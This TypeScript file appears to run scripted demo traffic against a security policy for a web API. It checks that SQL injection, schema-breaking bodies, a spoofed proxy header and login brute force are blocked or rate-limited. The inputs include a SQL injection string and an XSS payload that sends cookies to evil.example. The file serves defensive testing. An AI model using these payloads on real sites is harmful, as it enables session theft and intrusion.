import { demoToken } from './demo-api.js';

// A scripted walk through the demo policy: each step says what should happen and why.

interface Step {
  say: string;
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: unknown;
  repeat?: number;
}

export async function runDemoTraffic(base: string, jwtSecret: string, log: (line: string) => void): Promise<{ statuses: number[] }> {
  const alice = await demoToken(jwtSecret, 'alice');
  const steps: Step[] = [
    { say: 'an ordinary product search is allowed', path: '/api/products?q=lamp' },
    { say: 'a search that merely mentions SQL words is allowed', path: `/api/products?q=${encodeURIComponent('select specialty hospital')}` },
    { say: 'orders need a token: refused with 401', path: '/api/orders' },
    { say: 'with a valid JWT the same call is allowed', path: '/api/orders', headers: { authorization: `Bearer ${alice}` } },
    { say: 'SQL injection in a query parameter is blocked', path: `/api/products?q=${encodeURIComponent("x' UNION SELECT username, password FROM users--")}` },
    { say: 'a body that breaks the OpenAPI schema is refused', method: 'POST', path: '/api/orders', headers: { authorization: `Bearer ${alice}` }, body: { productId: 1, quantity: 500, isAdmin: true } },
    { say: 'an undeclared query parameter is refused (positive security)', path: '/api/products?q=lamp&debug=true' },
    { say: 'the admin pages only answer internal addresses', path: '/admin/stats' },
    { say: 'a spoofed X-Forwarded-For does not help: the peer is not a trusted proxy', path: '/admin/stats', headers: { 'x-forwarded-for': '10.0.0.5' } },
    { say: 'XSS in a monitored route passes, reported as would-block', method: 'POST', path: '/api/reviews', body: { text: '<script>fetch("//evil.example/"+document.cookie)</script>' } },
    { say: 'login brute force: the sixth try in a minute hits the rate limit (429)', method: 'POST', path: '/api/login', body: { username: 'alice', password: 'guess' }, repeat: 6 },
  ];
  const statuses: number[] = [];
  for (const step of steps) {
    log(`\n# ${step.say}`);
    for (let i = 0; i < (step.repeat ?? 1); i++) {
      const res = await fetch(base + step.path, {
        method: step.method ?? 'GET',
        headers: { ...(step.body ? { 'content-type': 'application/json' } : {}), ...step.headers },
        body: step.body ? JSON.stringify(step.body) : undefined,
      });
      await res.arrayBuffer();
      statuses.push(res.status);
      await new Promise((r) => setTimeout(r, 20));
    }
  }
  return { statuses };
}
